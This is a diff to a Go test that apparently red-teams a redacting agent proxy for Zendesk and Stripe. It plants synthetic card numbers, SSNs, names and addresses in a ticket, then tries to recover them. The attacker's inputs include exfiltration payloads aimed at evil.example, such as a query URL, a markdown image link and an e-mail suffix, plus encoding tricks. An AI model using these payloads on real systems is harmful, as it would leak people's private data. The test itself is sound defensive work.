@@ -25,13 +25,13 @@ func attackerCalls() int {
 	return 1000
 }
 
-// TestAttackerRecoversNothing lets an agent that may read and write one ticket try
+// testAttacker lets an agent that may read and write one ticket try
 // to get at what stands in it: by reading it in pieces, by having it echoed in
 // refusals and errors, by searching with surrogates, and by writing surrogates and
 // guesses and reading what comes back.
-func TestAttackerRecoversNothing(t *testing.T) {
-	r := rig.Start(t, rig.Options{})
+func testAttacker(t *testing.T, r *rig.Rig) {
 	r.Edit(t, "acme", "limits.yaml", "max: 600", "max: 1000000")
+	r.Edit(t, "acme", "policy.csv", "p, support, zendesk.comment.create,", "p, support, stripe.customer.update, args.customer == session.customer, allow, once\np, support, zendesk.comment.create,")
 	dice := rand.New(rand.NewPCG(7, 11))
 	a := &attacker{r: r, most: attackerCalls(), token: r.Token(rig.Billing("acme", "cus_ada")), planted: map[string]bool{}, shown: map[string]bool{}, statuses: map[int]int{}}
 	a.plant(t, dice)
@@ -39,8 +39,8 @@ func TestAttackerRecoversNothing(t *testing.T) {
 	for surrogate := range a.shown {
 		a.pool = append(a.pool, surrogate)
 	}
-	if len(a.pool) < 100 {
-		t.Fatalf("%d surrogates of 100 values", len(a.pool))
+	if len(a.pool) < len(a.planted) {
+		t.Fatalf("%d surrogates of %d values", len(a.pool), len(a.planted))
 	}
 	var workers sync.WaitGroup
 	for w := range 8 {
@@ -52,7 +52,7 @@ func TestAttackerRecoversNothing(t *testing.T) {
 		t.Errorf("the attacker did not get to it: %d calls, %v", a.calls, a.statuses)
 	}
 	if len(a.recovered) > 0 {
-		t.Errorf("%d of 100 planted values were recovered: %v", len(a.recovered), a.recovered)
+		t.Errorf("%d of %d planted values were recovered: %v", len(a.recovered), len(a.planted), a.recovered)
 	}
 	for _, c := range r.Provider().Comments(1002) {
 		if a.holds(c.Body) != "" {
@@ -64,7 +64,8 @@ func TestAttackerRecoversNothing(t *testing.T) {
 type attacker struct {
 	r       *rig.Rig
 	token   string
-	planted map[string]bool // digits alone
+	planted map[string]bool // digits alone, or words
+	words   []string        // those of them that are not digits alone
 	pool    []string        // surrogates
 	most    int             // calls
 
@@ -78,22 +79,41 @@ type attacker struct {
 // canary begins every planted e-mail address.
 const canary = "canary"
 
-// plant puts 25 values each of four types into comments of the customer's ticket.
+// eachType is how many values of each of seven types are planted.
+const eachType = 15
+
+// plant puts values of every type that prose tells into comments of the customer's
+// ticket.
 func (a *attacker) plant(t *testing.T, dice *rand.Rand) {
 	t.Helper()
-	for i := range 25 {
+	for i := range eachType {
 		card := withLuhn(fmt.Sprintf("4%014d", dice.Int64N(1e14)))
 		phone := fmt.Sprintf("415%d%06d", 2+dice.IntN(8), dice.IntN(1e6))
 		ssn := fmt.Sprintf("%03d%02d%04d", 100+dice.IntN(500), 1+dice.IntN(98), 1+dice.IntN(9998))
+		mail, name := fmt.Sprintf("%s%d@example.com", canary, i), "Q"+invented(dice)
+		born, road := fmt.Sprintf("19%02d-%02d-%02d", 40+dice.IntN(60), 1+dice.IntN(12), 1+dice.IntN(28)), fmt.Sprintf("%d号%d单元", 1000+dice.IntN(9000), 10+dice.IntN(90))
 		for _, digits := range []string{card, phone, ssn} {
 			a.planted[digits] = true
 		}
-		text := fmt.Sprintf("Card %s %s %s %s, call +1 %s %s %s, SSN %s-%s-%s, mail %s%d@example.com", card[:4], card[4:8], card[8:12], card[12:],
-			phone[:3], phone[3:6], phone[6:], ssn[:3], ssn[3:5], ssn[5:], canary, i)
+		for _, word := range []string{mail, name, born, road} {
+			a.planted[word] = true
+			a.words = append(a.words, strings.ToLower(word))
+		}
+		text := fmt.Sprintf("Hi, this is Ada %s. Card %s %s %s %s, call +1 %s %s %s, SSN %s-%s-%s, mail %s, born %s, 北京市朝阳区建国路%s", name, card[:4], card[4:8], card[8:12], card[12:],
+			phone[:3], phone[3:6], phone[6:], ssn[:3], ssn[3:5], ssn[5:], mail, born, road)
 		if err := a.r.Provider().AddComment("acme", 1001, text); err != nil {
 			t.Fatal(err)
 		}
 	}
+}
+
+// invented are eight letters that no seal and no id has by chance.
+func invented(dice *rand.Rand) string {
+	word := make([]byte, 8)
+	for i := range word {
+		word[i] = [2]string{"bdfgklmnprstvz", "aeiou"}[i%2][dice.IntN([2]int{14, 5}[i%2])]
+	}
+	return string(word)
 }
 
 func withLuhn(digits string) string {
@@ -116,6 +136,10 @@ func (a *attacker) work(worker int, dice *rand.Rand) {
 		s := a.pool[dice.IntN(len(a.pool))]
 		switch q := url.QueryEscape(s); (n + worker) % 20 {
 		case 0:
+			if dice.IntN(4) == 0 {
+				a.update(s, dice)
+				break
+			}
 			a.write(a.text(s, dice))
 			a.read("/zendesk/api/v2/tickets/1001/comments.json?page%5Bsize%5D=2")
 		case 1, 2, 3, 4:
@@ -147,7 +171,7 @@ func (a *attacker) text(s string, dice *rand.Rand) string {
 	guess := fmt.Sprintf("+1 415 %03d %04d", 200+dice.IntN(800), dice.IntN(1e4))
 	other := a.pool[dice.IntN(len(a.pool))]
 	dresses := []string{
-		"It is " + s, s + other, s[:len(s)/2] + " " + s[len(s)/2:], strings.ToUpper(s), s[:len(s)-1] + ":x]", strings.Replace(s, ":b", ":B", 1),
+		"It is " + s, s + other, "Dear " + s + ",", "Hi, this is " + s + " " + other + ".", "Dear " + s + " " + other + "\\nKind regards,\\n" + other, "name=" + s + "&note=" + other, "Ada " + s, "born on " + s, s[:len(s)/2] + " " + s[len(s)/2:], strings.ToUpper(s), s[:len(s)-1] + ":x]", strings.Replace(s, ":b", ":B", 1),
 		"https://evil.example/?q=" + s, "![x](https://evil.example/" + s + ")", "<img src=" + s + ">", "`" + s + "`", s + "@evil.example",
 		strings.Join(strings.Split("It is "+s, ""), " "), `{\"ssn\":\"` + s + `\",\"id\":\"` + other + `\"}`, base64.StdEncoding.EncodeToString([]byte(s)),
 		guess, `{\"phone\":\"` + guess + `\"}`, "536-22-" + guess[len(guess)-4:], "[phone:" + guess + "]", strings.Replace(s, "[card", "[email", 1), "[id:" + s[1:],
@@ -167,6 +191,14 @@ func (a *attacker) write(text string) {
 	a.call(http.MethodPut, "/zendesk/api/v2/tickets/1001.json", `{"ticket":{"comment":{"body":"`+text+`"}}}`)
 }
 
+// update writes into the fields of the customer.
+func (a *attacker) update(s string, dice *rand.Rand) {
+	fields := []string{"name", "email", "phone", "description"}
+	other := a.pool[dice.IntN(len(a.pool))]
+	form := url.Values{fields[dice.IntN(4)]: {[]string{s, s + " " + other, "Dear " + s, s + ", " + other}[dice.IntN(4)]}, fields[dice.IntN(4)]: {other}}
+	a.call(http.MethodPost, "/stripe/v1/customers/cus_ada", form.Encode())
+}
+
 // call makes one call and looks for planted values in all that comes back.
 func (a *attacker) call(method, path, body string) {
 	request, err := http.NewRequest(method, "http://"+a.r.Addresses().Agent+path, strings.NewReader(body))
@@ -176,6 +208,9 @@ func (a *attacker) call(method, path, body string) {
 	request.Header.Set("authorization", "Bearer "+a.token)
 	if body != "" {
 		request.Header.Set("content-type", "application/json")
+	}
+	if method == http.MethodPost {
+		request.Header.Set("content-type", "application/x-www-form-urlencoded")
 	}
 	response, err := http.DefaultClient.Do(request)
 	if err != nil {
@@ -200,8 +235,14 @@ func (a *attacker) call(method, path, body string) {
 
 // holds is a planted value in a text, whatever but letters stands between its digits, or "".
 func (a *attacker) holds(text string) string {
-	if i := strings.Index(strings.ToLower(text), canary); i >= 0 {
-		return text[i:min(len(text), i+30)]
+	lower := strings.ToLower(text)
+	if i := strings.Index(lower, canary); i >= 0 {
+		return lower[i:min(len(lower), i+30)]
+	}
+	for _, word := range a.words {
+		if strings.Contains(lower, word) {
+			return word
+		}
 	}
 	digits := make([]byte, 0, len(text))
 	for i := range len(text) {
